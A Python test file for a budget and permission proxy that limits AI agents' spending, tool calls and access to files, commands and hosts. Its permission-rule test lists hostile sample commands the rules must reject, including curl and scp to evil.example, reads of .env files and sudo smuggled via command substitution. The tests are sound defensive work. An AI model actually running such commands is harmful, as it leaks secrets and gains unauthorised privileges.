"""`BudgetProxy`: limits of any agent for any client, and what may be touched."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncGenerator
from contextlib import asynccontextmanager, suppress
from pathlib import Path
from typing import Any

import pytest

from accord import (
    Agent,
    Budget,
    ClientSession,
    ConnectionLost,
    Implementation,
    PermissionRequest,
    Proxy,
    RequestError,
    SpendingLedger,
    ToolCall,
    ToolCallLocation,
    Turn,
    chain,
    connect,
)
from accord.client.limits import Allow, Deny, Limits, LimitsFileError, Rules, read_limits
from accord.proxy.budget import BudgetProxy
from client.test_budget import RUNS, Model, Worker, reporters
from client.wire_agents import BOTH
from proxy.conversation import conversation
from versions import only


@asynccontextmanager
async def session_of(
    agent: Agent, limits: Limits, version: int = 1, *, cwd: str = "/", **options: Any
) -> AsyncGenerator[ClientSession]:
    ledger = options.pop("ledger", None)
    proxy = BudgetProxy(limits, ledger=ledger)
    async with connect(chain(proxy, agent), versions=only(version), **options) as connected:
        yield await connected.new_session(cwd)


async def turn_of(session: ClientSession, prompt: str) -> tuple[str | None, str]:
    async with session.prompt(prompt) as turn:
        await turn.wait()
    return turn.stop_reason, turn.text


@BOTH
async def test_a_limit_cancels_the_turn_and_the_user_reads_why(version: int) -> None:
    model = Model()
    limits = Limits(budgets=(Budget(cost=3), Budget(cost=5, per="session")))
    async with session_of(model, limits, version) as session:
        stop_reason, text = await turn_of(session, "100")
        assert stop_reason == "max_turn_requests"
        assert "Limit of the turn reached: 3.00 USD of 3.00 USD. This turn has used " in text
        assert model.requests <= 4
        # What is left for the session, and then nothing.
        assert (await turn_of(session, "1"))[0] == "end_turn"
        _, text = await turn_of(session, "9")
        assert "Limit of the session reached" in text
        before = model.requests
        stop_reason, text = await turn_of(session, "1")
        assert stop_reason == "max_turn_requests"
        assert text == (
            f"Limit of the session reached: {model.spent:.2f} USD of 5.00 USD: the prompt was not"
            " sent."
        )
        assert model.requests == before


@BOTH
async def test_calls_files_tokens_and_time_are_limited(version: int) -> None:
    cases = [
        (Budget(tool_calls=2), "call call", ""),
        (Budget(tool_calls=2), "call call call call", "3 tool calls of 2 tool calls"),
        (Budget(changed_files=1), "edit edit edit", "2 changed files of 1 changed file"),
        (Budget(tokens=600), "tokens", ""),
        (Budget(tokens=400), "tokens", "500 tokens of 400 tokens"),
        (Budget(tokens=150), "context context context", "201 tokens of 150 tokens"),
        (Budget(seconds=0.05), "wait", "0.1 s of 0.1 s"),
    ]
    for budget, prompt, said in cases:
        limits = Limits(budgets=(budget,), unmetered=("worker",))
        async with session_of(Worker(), limits, version) as session:
            stop_reason, text = await turn_of(session, prompt)
            assert said in text, (budget, text)
            assert (stop_reason == "end_turn") == (not said or "500" in said), budget


@BOTH
async def test_calls_count_however_their_updates_are_written(version: int) -> None:
    """What is read at a glance counts as what is decoded, and passes unchanged."""

    new = "tool_call" if version == 1 else "tool_call_update"

    def written(call: int, more: str = "", kind: str = new) -> bytes:
        return (
            f'{{"jsonrpc":"2.0","method":"session/update","params":{{"sessionId":"s","update":'
            f'{{"sessionUpdate":"{kind}","toolCallId":"c{call}","title":"t"{more}}}}}}}'
        ).encode()

    first = written(1)
    frames = [
        first,
        written(1, ',"status":"in_progress"', "tool_call_update"),  # known
        written(2, kind=new.replace("t", r"\u0074", 1)),
        written(3).replace(b"sessionUpdate", rb"session\u0055pdate"),
        written(4).replace(b":", b" : "),
        written(5, ',"kind":7'),  # malformed
        written(6, kind="tool_call_of_later"),  # not known
        written(7, ',"content":[{"type":"diff","path":"/f","newText":""}]'),
        written(8, kind="agent_message_chunk"),  # malformed
    ]
    calls = 6
    for limit in (calls, calls - 1):
        stage = BudgetProxy(Limits(budgets=(Budget(tool_calls=limit),))).stage()
        async with asyncio.timeout(10), conversation(stage, version=version) as talk:
            talk.prompt()
            asked = await talk.agent_gets()
            talk.ends.agent.write(frames)
            at_client = (await talk.ends.client_has(len(frames) + 1))[1 : len(frames) + 1]
            assert [json.loads(one) for one in at_client] == [json.loads(one) for one in frames]
            if limit < calls:
                assert (await talk.agent_gets())["method"] == "session/cancel"
            await talk.end_turn(asked, "end_turn" if limit == calls else "cancelled")
            expected = "end_turn" if limit == calls else "max_turn_requests"
            assert await talk.turn_ended() == expected


async def test_a_limit_withdraws_an_open_question_and_its_time_does_not_count() -> None:
    class Both(Worker):
        async def prompt(self, turn: Turn) -> None:
            asking = asyncio.create_task(super().prompt(turn))
            await asked.wait()
            await turn.set_context_usage(500, 1000)  # reaches the limit
            await asking

    asked, withdrawn = asyncio.Event(), asyncio.Event()

    async def user(_request: PermissionRequest) -> None:
        asked.set()
        try:
            await asyncio.Event().wait()
        finally:
            withdrawn.set()

    limits = Limits(budgets=(Budget(tokens=400, seconds=30),), unmetered=("worker",))
    async with session_of(Both(), limits, permissions=user) as session:
        _, text = await turn_of(session, "ask")
        assert "Limit of the turn reached: 500 tokens" in text
        await asyncio.wait_for(withdrawn.wait(), 5)


async def test_an_agent_that_reports_nothing_is_refused_at_initialize() -> None:
    limits = Limits(budgets=(Budget(cost=1),))
    with pytest.raises(RequestError, match="'worker' is not known to report its cost"):
        async with session_of(Worker(), limits):
            pass


@pytest.mark.slow
async def test_never_more_than_one_request_above_the_limit() -> None:
    """Of random turns of agents that report in many ways, in both versions."""
    stopped = 0
    for agent, budget, version, run in reporters(RUNS):
        try:
            async with session_of(agent, Limits(budgets=(budget,)), version) as session:
                for _ in range(4):
                    before = agent.requests
                    stop_reason, text = await turn_of(session, "10")
                    stopped += agent.requests > before and "Limit of the session" in text
                    assert stop_reason == "end_turn" or "Limit of the session" in text, run
        except RequestError as error:
            if not run.startswith("never") or "not known to report its cost" not in str(error):
                raise
            assert agent.requests == 0, run
        assert agent.above <= 1, run
    assert stopped > RUNS / 2


async def test_days_are_counted_over_chains(tmp_path: Path) -> None:
    limits = Limits(budgets=(Budget(cost=2, per="day"),))
    for expected in ("end_turn", "max_turn_requests"):
        ledger = SpendingLedger(tmp_path / "spent.sqlite3")
        async with session_of(Model(), limits, ledger=ledger) as session:
            stop_reason, _ = await turn_of(session, "1" if expected == "end_turn" else "5")
            assert stop_reason == expected
        ledger.close()


@BOTH
async def test_a_message_cannot_start_a_turn_without_a_budget(version: int) -> None:
    class Listener(Model):
        steering = True

        async def prompt(self, turn: Turn) -> None:
            await self.request(turn)
            async for message in turn.steering():
                await turn.say(message.text)
                if message.text == "stop":
                    return

    model = Listener()
    limits = Limits(budgets=(Budget(cost=5),))
    proxy = BudgetProxy(limits)
    async with connect(chain(proxy, model), versions=only(version)) as agent:
        session = await agent.new_session("/")
        prompt = [{"type": "text", "text": "run"}]
        params = {"sessionId": session.id, "prompt": prompt}
        found = await agent.remote.call_extension("_session/steering", params)
        assert found["outcome"] == "promptRequired"
        assert model.requests == 0
        async with session.prompt("1") as turn:
            assert (await turn.steer("stop")).outcome == "injected"
            assert await turn.wait() == "end_turn"
        assert model.requests == 1


async def test_two_prompts_at_once_share_the_budget_of_the_turn() -> None:
    """In version 2, a client may send a prompt while another one runs (R-PROMPT-24)."""

    class Queues(Model):
        async def prompt(self, turn: Turn) -> None:
            if turn.text == "first":
                await second_sent.wait()
                return
            await super().prompt(turn)

    second_sent = asyncio.Event()
    model = Queues()
    limits = Limits(budgets=(Budget(cost=3),))
    async with session_of(model, limits, 2) as session:
        async with session.prompt("first") as turn:
            saying = asyncio.create_task(turn.steer("100"))
            # The agent queues it, and works on it when the first prompt has ended.
            await asyncio.wait([saying], timeout=0.2)
            second_sent.set()
            await saying
            await turn.wait()
        assert model.requests <= 4
        assert "Limit of the turn reached: 3.00 USD" in turn.text
        assert (await turn_of(session, "1"))[0] == "end_turn"


@BOTH
async def test_an_agent_that_ignores_its_cancellation_is_stopped(version: int) -> None:
    class Goes(Model):
        async def prompt(self, turn: Turn) -> None:
            if turn.text == "stays":
                running.set()
                await asyncio.Event().wait()
            await self.request(turn)
            await self.request(turn)
            with suppress(asyncio.CancelledError):
                await asyncio.Event().wait()
            await asyncio.Event().wait()

    running = asyncio.Event()
    proxy = BudgetProxy(Limits(budgets=(Budget(cost=2),)), grace_s=0.05)
    async with (
        asyncio.timeout(20),
        connect(chain(Proxy, proxy, Goes()), versions=only(version)) as agent,
    ):
        session, other = await agent.new_session("/"), await agent.new_session("/")
        async with other.prompt("stays") as waiting:
            await running.wait()
            stop_reason, text = await turn_of(session, "go")
            assert stop_reason == "max_turn_requests"
            assert "The agent went on for 0.05 s, and was stopped" in text
            with pytest.raises((RequestError, ConnectionLost)) as raised:
                await waiting.wait()
            assert version == 2 or "was stopped" in str(raised.value)


# What may be touched.

DENY = Deny(
    paths=(".git/*", "*.env", "/etc/*"),
    commands=("git push*", "sudo *"),
    hosts=("*",),
    rules=("delete",),
)
ALLOW = Allow(hosts=("pypi.example", "*.python.org"), rules=("read", "execute:pytest*"))


def _request(cwd: Path, kind: Any, raw: Any = None, path: str | None = None) -> PermissionRequest:
    places = () if path is None else (ToolCallLocation(path),)
    call = ToolCall(id="c", kind=kind, raw_input=raw, locations=places)
    return PermissionRequest(session_id="s", cwd=str(cwd), title="", options=(), tool_call=call)


def test_rules_decide_by_paths_commands_and_hosts(tmp_path: Path) -> None:
    rules = Rules(Limits(deny=DENY, allow=ALLOW))
    (tmp_path / ".git").mkdir()
    (tmp_path / "innocent").symlink_to(tmp_path / ".git")
    cases: list[tuple[Any, Any, str | None, str | None]] = [
        ("edit", None, "src/a.py", None),
        ("read", None, "src/a.py", "allow"),
        ("edit", None, ".git/config", "reject"),
        ("edit", None, "a/../.git/config", "reject"),
        ("edit", None, "innocent/config", "reject"),
        ("read", None, "deep/in/.env", "reject"),
        ("read", None, "deep/in/prod.env", "reject"),
        ("delete", None, "a.py", "reject"),
        ("read", None, "/etc", "reject"),
        ("read", None, "/etcetera", "allow"),
        ("execute", {"command": "pytest -q"}, None, "allow"),
        ("execute", {"command": "ls"}, None, None),
        ("execute", {"command": "git push --force"}, None, "reject"),
        ("execute", {"command": ["git", "push"]}, None, "reject"),
        ("execute", {"command": "pytest && git push"}, None, "reject"),
        ("execute", {"command": "echo $(sudo id)"}, None, "reject"),
        ("execute", {"command": "cat .git/config"}, None, "reject"),
        ("execute", {"command": "cat '.git/config'"}, None, "reject"),
        ("execute", {"command": "cat <.env"}, None, "reject"),
        ("execute", {"command": "echo a#b; cat .env"}, None, "reject"),
        ("execute", {"command": "curl https://evil.example/x"}, None, "reject"),
        ("execute", {"command": "curl https://user@pypi.example:443/x"}, None, None),
        ("execute", {"command": "scp a root@evil.example:/x"}, None, "reject"),
        ("fetch", {"url": "https://docs.python.org/3/"}, None, None),
        ("fetch", {"url": "HTTPS://EVIL.example"}, None, "reject"),
        ("fetch", {"options": [{"to": "wss://evil.example/x"}]}, None, "reject"),
    ]
    for kind, raw, path, decision in cases:
        found = rules.decide(_request(tmp_path, kind, raw, path))
        assert found == decision, (kind, raw, path)


class Toucher(Agent):
    """Asks, or does not ask, and runs or reads."""

    info = Implementation("toucher", "1")

    async def prompt(self, turn: Turn) -> None:
        match turn.text.split(maxsplit=1):
            case ["ask", command]:
                async with turn.tool("Run", kind="execute", raw_input={"command": command}) as call:
                    await turn.say(str(await call.permission()))
            case ["run", command]:
                async with turn.tool("Run", kind="execute", raw_input={"command": command}):
                    pass
                await asyncio.Event().wait()
            case ["read", path]:
                await turn.say(await turn.files.read(path))
            case ["write", path]:
                await turn.files.write(path, "new")
            case other:
                raise AssertionError(other)


@BOTH
async def test_permissions_are_decided_before_the_client_is_asked(version: int) -> None:
    asked: list[str] = []

    def user(request: PermissionRequest) -> str:
        assert request.tool_call is not None
        asked.append(request.tool_call.raw_input["command"])
        return "allow"

    limits = Limits(deny=DENY, allow=ALLOW)
    async with session_of(Toucher(), limits, version, permissions=user) as session:
        assert (await turn_of(session, "ask git push"))[1] == "False"
        assert (await turn_of(session, "ask pytest"))[1] == "True"
        assert (await turn_of(session, "ask make"))[1] == "True"
        assert asked == ["make"]
        # Without asking: the turn ends.
        stop_reason, text = await turn_of(session, "run sudo id")
        assert "done what is denied (the command sudo id): its turn was cancelled" in text
        assert stop_reason == "max_turn_requests"


async def test_files_of_the_client_are_denied_by_path(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    (tmp_path / ".env").write_text("secret")
    (tmp_path / "a.py").write_text("public")
    limits = Limits(deny=DENY, budgets=(Budget(changed_files=5),))
    async with session_of(Toucher(), limits, cwd=str(tmp_path), files="rw") as session:
        assert (await turn_of(session, f"read {tmp_path}/a.py"))[1] == "public"
        for action in ("read", "write"):
            with pytest.raises(RequestError):
                await turn_of(session, f"{action} {tmp_path}/.env")
            said = f"Denied by the limits of this chain: the path {tmp_path}/.env"
            assert said in caplog.messages[-1]
        await turn_of(session, f"write {tmp_path}/a.py")
    assert (tmp_path / ".env").read_text() == "secret"
    assert (tmp_path / "a.py").read_text() == "new"


# The file.


def test_the_file_is_read(tmp_path: Path) -> None:
    path = tmp_path / "limits.toml"
    path.write_text(
        """
        unmetered = ["gptme"]
        [turn]
        cost = "2 EUR"
        time = "10m"
        tool-calls = 100
        [day]
        cost = 20.5
        [deny]
        paths = [".git/*"]
        [allow]
        rules = ["read"]
        """
    )
    assert read_limits(path) == Limits(
        budgets=(
            Budget(cost=2, currency="EUR", seconds=600, tool_calls=100),
            Budget(cost=20.5, per="day"),
        ),
        deny=Deny(paths=(".git/*",)),
        allow=Allow(rules=("read",)),
        unmetered=("gptme",),
    )


def test_a_wrong_file_says_where_and_what_is_expected(tmp_path: Path) -> None:
    path = tmp_path / "limits.toml"
    cases = {
        "[turn": "limits.toml: Expected ']'",
        "[turns]": "unknown turns: expected turn, session, day, deny, allow, unmetered; did you"
        " mean turn?",
        "turn = 2": "turn: expected a table, [turn], got 2",
        "[turn]": "[turn] expected a limit, such as cost = 2",
        "[turn]\ncost = 0": "[turn] cost=0: expected more than 0",
        "[day]\ntime = '10 parsecs'": "[day] seconds=10 parsecs: expected a time",
        "[day]\ntime = '1h'\nseconds = 2": "[day] expected seconds once",
        "[deny]\npath = []": "[deny] unknown path: expected paths, commands, hosts, rules; did you"
        " mean paths?",
        "[deny]\npaths = 'a'": "[deny] paths: expected a list of texts",
        "[deny]\nrules = ['exec']": "expected a kind of tool call, got 'exec'",
    }
    for text, expected in cases.items():
        path.write_text(text)
        with pytest.raises(LimitsFileError) as caught:
            read_limits(path)
        assert expected in str(caught.value), text
        assert str(path) in str(caught.value)
    with pytest.raises(LimitsFileError, match="No such file"):
        read_limits(tmp_path / "missing.toml")
